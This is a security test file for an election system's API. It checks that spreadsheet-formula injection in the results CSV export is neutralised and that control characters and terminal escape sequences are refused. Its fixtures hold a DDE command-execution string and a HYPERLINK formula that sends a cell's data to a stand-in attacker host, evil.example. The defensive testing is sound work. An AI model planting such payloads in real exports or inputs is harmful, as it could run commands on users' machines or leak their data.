import { inspect } from "node:util";
import { TRPCClientError } from "@trpc/client";
import { HyperFormula } from "hyperformula";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { provisionTestStack, type TestStack } from "@landslide/vote-engine/testing";
import { createLandslideClient, type LandslideClient, parseCsv, resultsCsv } from "../../src/client/index";
import { type Deployment, startDeployment } from "../../src/testing/index";

/**
 * Attack: put text where an official's words go (titles, prompts, labels, reasons) that does
 * something when someone else looks at it: a formula that a spreadsheet runs when the results
 * export is opened, or terminal escape sequences and text-direction overrides.
 */
let stack: TestStack;
let deployment: Deployment;
let official: LandslideClient;

beforeAll(async () => {
  stack = await provisionTestStack({ demo: true });
  deployment = await startDeployment(stack);
  const email = "official@demo.landslide.test";
  official = createLandslideClient({
    urls: deployment.urls,
    cognito: {
      region: stack.target.region,
      endpoint: stack.target.cognitoEndpoint,
      clientId: stack.provisioned.clientIds.console,
    },
    userAgent: "landslide-attack-test/1.0",
  });
  await official.auth.signIn(email, stack.provisioned.accounts.find((a) => a.email === email)!.password);
}, 120_000);
afterAll(async () => {
  await deployment?.stop();
  await stack?.stop();
});

const question = (prompt: string, labels: readonly string[]) => ({
  id: "q",
  kind: "single" as const,
  prompt,
  options: labels.map((label, i) => ({ id: `o${i}`, label })),
});

/** What the API answered to a refused call, as a client sees it over HTTP. */
async function refusal(call: Promise<unknown>) {
  const error = await call.then(
    () => undefined,
    (e: unknown) => e,
  );
  if (!(error instanceof TRPCClientError))
    throw new Error(`expected a refusal, got ${error === undefined ? "an acceptance" : inspect(error)}`);
  const data = error.data as {
    code: string;
    httpStatus: number;
    reason: string;
    issues?: Array<{ path: string; message: string }>;
  };
  return { code: data.code, httpStatus: data.httpStatus, reason: data.reason, issues: data.issues ?? [] };
}

describe("results export opened by a formula engine", () => {
  // Every one of these is a formula to a spreadsheet; none holds a control character, so all pass the boundary.
  const labels = [
    "+cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the results")',
    "@SUM(1+1)",
    "-2+3",
    "=1+1",
    "Plain, with a comma",
  ];
  const prompt = '=CONCATENATE("Who","?")';

  it("shows every label and the prompt as the text the official typed, and the counts as numbers", async () => {
    const created = await official.control.official.elections.create.mutate({
      election: { title: "=2*3 Harbour Board", allowAbstain: true, questions: [question(prompt, labels)] },
      reason: "formula labels",
    });
    // Exported as the console and the CLI do: the election as officials read it, a recount, the SDK's CSV.
    const election = (await official.control.official.elections.list.query()).find((e) => e.id === created.id)!;
    const recount = await official.control.official.elections.recount.mutate({ electionId: created.id });
    const csv = resultsCsv(election, recount);

    const parsed = parseCsv(csv);
    if (!parsed.ok) throw new Error(parsed.message);
    const rows = parsed.records.map((r) => [...r.fields]);
    // HyperFormula reads cell text as a spreadsheet does: "=…" is a formula it evaluates, "'…" is text with the apostrophe hidden, "12" is a number.
    const sheet = HyperFormula.buildFromArray(rows, { licenseKey: "gpl-v3" });
    try {
      const values = sheet.getSheetValues(0);
      const header = values[0]!;
      const column = (name: string) => header.indexOf(name);
      const optionRows = values.filter(
        (row) => typeof row[column("counter")] === "string" && /^q#o\d+$/.test(row[column("counter")] as string),
      );
      expect(optionRows.map((row) => row[column("option")])).toEqual(labels);
      for (const row of optionRows) {
        expect(row[column("question")]).toBe(prompt);
        expect(row[column("votes")]).toBe(0);
      }
      // Nothing in the sheet is a formula: every cell is a value as written.
      for (let row = 0; row < rows.length; row++)
        for (let col = 0; col < rows[row]!.length; col++)
          expect(sheet.doesCellHaveFormula({ sheet: 0, row, col })).toBe(false);
    } finally {
      sheet.destroy();
    }
  });
});

describe("control characters at the boundary", () => {
  const titles = async () => (await official.control.official.elections.list.query()).map((e) => e.title);

  it("refuses a title with a terminal escape sequence with BAD_REQUEST, names the field, and writes nothing", async () => {
    const before = await titles();
    const refused = await refusal(
      official.control.official.elections.create.mutate({
        election: { title: "\u001b[31mred", questions: [question("Which?", ["A", "B"])] },
        reason: "escape in the title",
      }),
    );
    expect(refused).toMatchObject({ code: "BAD_REQUEST", httpStatus: 400, reason: "INVALID_INPUT" });
    expect(refused.issues).toEqual([
      {
        path: "election.title",
        message:
          "The title must not contain control, line-break or text-direction characters: it has U+001B at character 1.",
      },
    ]);
    const after = await titles();
    expect(after).toEqual(before);
    expect(after.some((title) => title.includes("red"))).toBe(false);
  });

  it.each([
    [
      "a prompt with a carriage return",
      { title: "Ferry", questions: [question("Keep the ferry?\rNo vote needed", ["Yes", "No"])] },
      "election.questions.0.prompt",
      "question prompt",
      "U+000D",
    ],
    [
      "a label with a right-to-left override",
      { title: "Ferry", questions: [question("Keep the ferry?", ["Yes", "No\u202e"])] },
      "election.questions.0.options.1.label",
      "option label",
      "U+202E",
    ],
    [
      "a label with a C1 control sequence introducer",
      { title: "Ferry", questions: [question("Keep the ferry?", ["\u009b2J", "No"])] },
      "election.questions.0.options.0.label",
      "option label",
      "U+009B",
    ],
    [
      "a title with a line break",
      { title: "Ferry\nsecond line", questions: [question("Keep the ferry?", ["Yes", "No"])] },
      "election.title",
      "title",
      "U+000A",
    ],
    [
      "a description with an isolate",
      { title: "Ferry", description: "One question.\u2067", questions: [question("Keep the ferry?", ["Yes", "No"])] },
      "election.description",
      "description",
      "U+2067",
    ],
  ])("refuses %s", async (_, election, path, field, char) => {
    const refused = await refusal(
      official.control.official.elections.create.mutate({ election, reason: "control characters" }),
    );
    expect(refused).toMatchObject({ code: "BAD_REQUEST", reason: "INVALID_INPUT" });
    expect(refused.issues).toHaveLength(1);
    expect(refused.issues[0]!.path).toBe(path);
    expect(refused.issues[0]!.message).toMatch(
      new RegExp(`^The ${field} must not contain .*: it has ${char.replace("+", "\\+")} at character \\d+\\.$`),
    );
  });

  it("keeps line breaks in a description, and the letters of every script", async () => {
    const created = await official.control.official.elections.create.mutate({
      election: {
        title: "Ταμείο λιμένα — صندوق الميناء",
        description: "First paragraph.\n\nSecond paragraph.",
        questions: [question("Keep the ferry? ‏(נא לבחור)", ["Ja", "Nein"])],
      },
      reason: "plain text in many scripts",
    });
    expect(created.description).toBe("First paragraph.\n\nSecond paragraph.");
    expect(created.title).toBe("Ταμείο λιμένα — صندوق الميناء");
  });

  it("refuses control characters in every reason an official gives, and nothing moves", async () => {
    const created = await official.control.official.elections.create.mutate({
      election: { title: "Reasons", questions: [question("Which?", ["A", "B"])] },
      reason: "reason tests",
    });
    const electionId = created.id;
    const reasonIssue = (refused: Awaited<ReturnType<typeof refusal>>) =>
      refused.issues.find((i) => i.path === "reason")?.message;
    const expected =
      /^The reason must not contain control, line-break or text-direction characters: it has U\+(001B|0007|202D|0000) at character \d+\.$/;

    const calls = [
      official.control.official.elections.transition.mutate({
        electionId,
        to: "open",
        reason: "polls \u001b]0;pwned\u0007open",
      }),
      official.control.official.elections.update.mutate({
        electionId,
        election: { title: "Reasons", questions: [question("Which?", ["A", "B"])] },
        reason: "typo\u0007",
      }),
      official.control.official.elections.schedule.mutate({
        electionId,
        opensAt: new Date(Date.now() + 3_600_000).toISOString(),
        closesAt: new Date(Date.now() + 7_200_000).toISOString(),
        reason: "\u202dset",
      }),
      official.control.official.elections.create.mutate({
        election: { title: "Another", questions: [question("Which?", ["A", "B"])] },
        reason: "null\u0000byte",
      }),
      official.control.official.fraud.release.mutate({
        electionId,
        voterKeys: ["AAAAAAAAAAAAAAAAAAAAAA"],
        reason: "ok\u001b[2J",
      }),
      official.control.official.fraud.void.mutate({
        electionId,
        voterKeys: ["AAAAAAAAAAAAAAAAAAAAAA"],
        reason: "bot\u001b[2J",
      }),
      official.control.official.voterRoll.import.mutate({
        electionId,
        rows: [{ email: "ada@example.org" }],
        firstRow: 2,
        reason: "roll\u001b[8m",
      }),
    ];
    // The calls run at once: each gets its handler now, or one that fails before the loop reaches it
    // would be an unhandled rejection (it was, once in CI).
    const refusals = calls.map(refusal);
    for (const pending of refusals) {
      const refused = await pending;
      expect(refused).toMatchObject({ code: "BAD_REQUEST", reason: "INVALID_INPUT" });
      expect(reasonIssue(refused)).toMatch(expected);
    }
    const after = (await official.control.official.elections.list.query()).find((e) => e.id === electionId)!;
    expect(after.status).toBe("draft");
    expect(after.opensAt).toBeNull();
    expect((await titles()).includes("Another")).toBe(false);
    const trail = await official.control.official.audit.list.query({ electionId });
    expect(trail.map((entry: { action: string }) => entry.action)).toEqual(["election.create"]);
  });
});
